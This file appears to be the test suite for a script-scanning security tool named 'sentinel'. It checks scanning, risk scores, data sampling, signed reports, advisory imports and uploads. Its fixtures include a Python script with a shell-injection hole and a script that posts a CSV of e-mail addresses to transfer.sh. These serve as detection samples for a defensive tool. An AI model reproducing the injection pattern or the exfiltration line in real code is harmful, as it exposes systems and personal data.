import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { Analysis, InventoryUpload, ScanReport } from '@sentinel/protocol';

const SENTINEL = join(import.meta.dirname, '..', '..', 'bin', 'sentinel.js');

let folder: string;
let tree: string;
const sentinel = (...args: string[]) =>
  spawnSync(process.execPath, [SENTINEL, ...args], { cwd: folder, encoding: 'utf8', maxBuffer: 2 ** 26 });

before(() => {
  folder = mkdtempSync(join(tmpdir(), 'sentinel-scan-cli-'));
  tree = join(folder, 'tree');
  mkdirSync(join(tree, 'sub'), { recursive: true });
  writeFileSync(join(tree, 'job.py'), 'import subprocess, sys\nsubprocess.call("ls " + sys.argv[1], shell=True)\n');
  writeFileSync(join(tree, 'sub', 'plain.py'), 'print(1)\n');
});
after(() => rmSync(folder, { recursive: true, force: true }));

describe('sentinel scan', () => {
  it('writes the report where it is told, and nothing else', () => {
    const before = readdirSync(folder);
    const result = sentinel('scan', '--root', tree, '--no-analysis', '--out', join(folder, 'r.json'));
    assert.equal(result.status, 0, result.stderr);
    const report = ScanReport.parse(JSON.parse(readFileSync(join(folder, 'r.json'), 'utf8')));
    assert.deepEqual(
      report.inventory.scripts.map(({ path }) => path),
      [join(tree, 'job.py'), join(tree, 'sub', 'plain.py')],
    );
    assert.deepEqual(report.analysis, { isIncluded: false, note: 'Analysis was not asked for.' });
    assert.deepEqual(readdirSync(folder).sort(), [...before, 'r.json'].sort());
    assert.equal(result.stdout, '');
    rmSync(join(folder, 'r.json'));
  });

  it('gives analysis and risk of each script', () => {
    const result = sentinel('scan', '--root', tree, '--format', 'json');
    assert.equal(result.status, 0, result.stderr);
    const report = ScanReport.parse(JSON.parse(result.stdout));
    assert.equal(report.analysis.isIncluded, true, report.analysis.note);
    assert.deepEqual(
      report.assessments.map(({ path }) => path),
      [join(tree, 'job.py'), join(tree, 'sub', 'plain.py')],
    );
    const [worst, plain] = report.assessments;
    assert.ok((worst?.risk.score ?? 0) > (plain?.risk.score ?? 0));
    assert.ok(worst?.analysis.weaknesses.some(({ severity }) => severity === 'high' || severity === 'critical'));
  });

  it('looks into data files only when it is asked to, and lets kinds and counts out only', () => {
    const data = mkdtempSync(join(tmpdir(), 'sentinel-scan-data-'));
    writeFileSync(join(data, 'people.csv'), 'e-mail;n\nada@example.org;1\n');
    writeFileSync(
      join(data, 'send.py'),
      "import requests\nrequests.post('https://transfer.sh/a', data=open('people.csv').read())\n",
    );
    const [plain, asked] = [[], ['--sample-data']].map((more) => {
      const result = sentinel('scan', '--root', data, '--format', 'json', ...more);
      assert.equal(result.status, 0, result.stderr);
      return ScanReport.parse(JSON.parse(result.stdout));
    });
    const told = (report: ScanReport | undefined) => [
      report?.dataSample?.files.map(({ path, kinds }) => [path, kinds.map(({ kind, count }) => [kind, count])]),
      report?.assessments.flatMap(({ analysis }) => analysis.flows.map(({ source: { labels } }) => labels)),
    ];
    assert.deepEqual(told(plain), [undefined, [undefined]]);
    assert.deepEqual(told(asked), [[[join(data, 'people.csv'), [['email', 1]]]], [['email']]]);
    assert.ok((asked?.assessments[0]?.risk.score ?? 0) > (plain?.assessments[0]?.risk.score ?? 0));
    for (const format of ['html', 'csv']) {
      const { stdout } = sentinel('scan', '--root', data, '--format', format, '--out', '-', '--sample-data');
      assert.match(stdout, /email/);
      assert.doesNotMatch(stdout, /ada@example/);
    }
    const analysed = sentinel('analyse', join(data, 'send.py'), '--sample-data', '--fail-on', 'never');
    assert.match(analysed.stdout, /data file .*people\.csv {2}email 1/);
    rmSync(data, { recursive: true, force: true });
  });

  it('prints events as lines of JSON', () => {
    const result = sentinel('scan', '--root', tree, '--no-analysis', '--json');
    const events = result.stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { event: string; kind?: string });
    assert.deepEqual(
      events.filter(({ event }) => event !== 'progress').map(({ event, kind }) => (event === 'found' ? kind : event)),
      ['scripts', 'scripts', 'done'],
    );
  });

  it('shows what changed since an older report', () => {
    const old = join(folder, 'old.json');
    sentinel('scan', '--root', tree, '--no-analysis', '--out', old);
    writeFileSync(join(tree, 'fresh.py'), 'print(2)\n');
    const result = sentinel('scan', '--root', tree, '--no-analysis', '--format', 'json', '--compare', old);
    const { comparison } = JSON.parse(result.stdout) as { comparison: { scripts: { added: string[] } } };
    assert.deepEqual(comparison.scripts.added, [join(tree, 'fresh.py')]);
    rmSync(join(tree, 'fresh.py'));
    rmSync(old);
  });

  it('keeps a state only where it is told, and starts from it', () => {
    const state = join(folder, 'scan.state');
    sentinel('scan', '--root', tree, '--no-analysis', '--format', 'json', '--state', state);
    const result = sentinel('scan', '--root', tree, '--no-analysis', '--format', 'json', '--state', state, '--resume');
    const report = ScanReport.parse(JSON.parse(result.stdout));
    assert.deepEqual([report.coverage.reusedFolders, report.inventory.scripts.length], [2, 2]);
    rmSync(state);
  });

  it('ends with 130 when it is interrupted, with a state to go on from', async () => {
    const many = join(folder, 'many');
    for (let index = 0; index < 3000; index += 1)
      mkdirSync(join(many, `${index % 30}`, `${index}`), { recursive: true });
    const state = join(folder, 'cut.state');
    const child = spawn(
      process.execPath,
      [SENTINEL, 'scan', '--root', many, '--no-analysis', '--json', '--cpu', '2', '--state', state],
      { stdio: ['ignore', 'pipe', 'pipe'] },
    );
    child.stdout.once('data', () => child.kill('SIGINT'));
    child.stdout.resume();
    child.stderr.resume();
    const [code] = (await once(child, 'exit')) as [number | null];
    assert.equal(code, 130);
    assert.ok(existsSync(state));
    const report = ScanReport.parse(
      JSON.parse(
        sentinel('scan', '--root', many, '--no-analysis', '--format', 'json', '--state', state, '--resume').stdout,
      ),
    );
    assert.deepEqual([report.coverage.isComplete, report.coverage.folders], [true, 3031]);
    rmSync(many, { recursive: true });
    rmSync(state);
  });

  it('says 2 for what cannot be meant', () => {
    for (const args of [
      ['--root', join(folder, 'none')],
      ['--resume'],
      ['--compare', SENTINEL],
      ['--resume', '--state', join(folder, 'none')],
    ])
      assert.equal(sentinel('scan', ...args).status, 2, args.join(' '));
  });
});

describe('sentinel scan with a signature, advisories and a server', () => {
  it('signs a report, and says when it or its key is another', () => {
    const out = join(folder, 'signed.json');
    const key = join(folder, 'scan.key');
    assert.equal(sentinel('scan', '--root', tree, '--no-analysis', '--out', out, '--sign', key).status, 0);
    const genuine = sentinel('scan', '--verify', out);
    const publicKey = /as (\S{44}) signed/.exec(genuine.stdout)?.[1] ?? assert.fail(genuine.stderr);
    assert.deepEqual(
      [
        genuine.status,
        ...[publicKey, `${'A'.repeat(43)}=`].map((trust) => sentinel('scan', '--verify', out, '--trust', trust).status),
      ],
      [0, 0, 1],
    );
    writeFileSync(out, `${readFileSync(out, 'utf8')} `);
    assert.equal(sentinel('scan', '--verify', out).status, 1);
    assert.equal(sentinel('scan', '--root', tree, '--format', 'json', '--sign', key).status, 2);
    for (const name of [out, `${out}.sig`, key]) rmSync(name);
  });

  it('says plainly that nothing was checked without advisories, and judges packages and scripts with them', () => {
    const data = join(folder, 'data');
    const scanned = (): ScanReport =>
      ScanReport.parse(
        JSON.parse(sentinel('scan', '--root', join(folder, 'shop'), '--format', 'json', '--data', data).stdout),
      );
    const site = join(folder, 'shop', '.venv', 'lib', 'python3.12', 'site-packages');
    for (const name of ['requests-2.19.0', 'evil_tool-1.0', 'six-1.16.0'])
      mkdirSync(join(site, `${name}.dist-info`), { recursive: true });
    writeFileSync(join(folder, 'shop', '.venv', 'pyvenv.cfg'), 'home = /usr/bin\n');
    writeFileSync(join(folder, 'shop', 'job.py'), 'import requests\nprint(requests)\n');
    const without = scanned();
    assert.deepEqual(
      [without.advisories?.isImported, without.packageVerdicts, /none was checked/.test(without.analysis.note)],
      [false, [], true],
    );

    mkdirSync(join(folder, 'osv'));
    const record = (id: string, name: string, events: object[]) =>
      writeFileSync(
        join(folder, 'osv', `${id}.json`),
        JSON.stringify({
          id,
          modified: '2026-01-02T00:00:00Z',
          affected: [{ package: { ecosystem: 'PyPI', name }, ranges: [{ type: 'ECOSYSTEM', events }] }],
          database_specific: { severity: 'HIGH' },
        }),
      );
    record('PYSEC-1', 'requests', [{ introduced: '0' }, { fixed: '2.20.0' }]);
    record('MAL-1', 'evil-tool', [{ introduced: '0' }]);
    const bundle = join(folder, 'b.advisories');
    const built = JSON.parse(
      sentinel(
        'advisories',
        'build',
        '--from',
        join(folder, 'osv'),
        '--out',
        bundle,
        '--key',
        join(folder, 'a.key'),
        '--json',
      ).stdout,
    ) as { publicKey: string };
    assert.equal(sentinel('advisories', 'import', bundle, '--data', data, '--trust', built.publicKey).status, 0);
    const judged = scanned();
    assert.deepEqual(
      [
        judged.advisories?.dataDate,
        judged.packageVerdicts?.map(({ kind, distribution, sites }) => [kind, distribution, sites]),
      ],
      [
        '2026-01-02',
        [
          ['malicious', 'evil-tool', [site]],
          ['vulnerable', 'requests', [site]],
        ],
      ],
    );
    const [script] = judged.assessments;
    assert.deepEqual(
      script?.analysis.verdicts.map(({ kind, version }) => [kind, version]),
      [['vulnerable', '2.19.0']],
    );
    assert.ok((script?.risk.score ?? 0) > (without.assessments[0]?.risk.score ?? 0));
    for (const name of ['shop', 'osv', 'data']) rmSync(join(folder, name), { recursive: true });
  });

  it('uploads a saved report, and refuses to upload without a token', async () => {
    const out = join(folder, 'saved.json');
    sentinel('scan', '--root', tree, '--out', out);
    const bodies: { id: string; risks: unknown[]; authorization: string | undefined }[] = [];
    const server = createServer((request, response) => {
      const chunks: Buffer[] = [];
      request.on('data', (chunk: Buffer) => chunks.push(chunk));
      request.on('end', () => {
        const body = InventoryUpload.parse(JSON.parse(Buffer.concat(chunks).toString()));
        bodies.push({ id: body.id, risks: body.risks, authorization: request.headers.authorization });
        response.end(JSON.stringify({ id: body.id, outcome: 'stored', isCurrent: true }));
      });
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const child = spawn(
      process.execPath,
      [SENTINEL, 'scan', '--upload', url, '--token', 'enr_x', '--upload-report', out],
      {
        cwd: folder,
        stdio: 'ignore',
      },
    );
    const [code] = (await once(child, 'exit')) as [number | null];
    server.close();
    const report = ScanReport.parse(JSON.parse(readFileSync(out, 'utf8')));
    assert.deepEqual(
      [code, bodies.map(({ id, risks, authorization }) => [id, risks.length, authorization])],
      [0, [[report.id, 2, 'Bearer enr_x']]],
    );
    assert.equal(sentinel('scan', '--upload', url, '--upload-report', out).status, 2);
    rmSync(out);
  });
});

describe('sentinel analyse', () => {
  it('fails at or above the severity that it is told', () => {
    const codes = [['job.py'], ['job.py', '--fail-on', 'never'], ['sub/plain.py'], ['.'], ['sub']].map(
      ([path = '', ...options]) => sentinel('analyse', join(tree, path), ...options).status,
    );
    assert.deepEqual(codes, [1, 0, 0, 1, 0]);
  });

  it('prints a line of JSON a source, or SARIF', () => {
    const line = JSON.parse(sentinel('analyse', join(tree, 'job.py'), '--json').stdout) as { risk: { score: number } };
    assert.ok(Analysis.parse(line).weaknesses.length > 0);
    assert.ok(line.risk.score > 0);
    const log = JSON.parse(sentinel('analyse', tree, '--sarif').stdout) as {
      version: string;
      runs: { results: unknown[] }[];
    };
    assert.equal(log.version, '2.1.0');
    assert.ok((log.runs[0]?.results.length ?? 0) > 0);
  });

  it('says 2 for what is not there', () => {
    assert.equal(sentinel('analyse', join(folder, 'none.py')).status, 2);
    assert.equal(sentinel('analyse', tree, '--json', '--sarif').status, 2);
  });
});
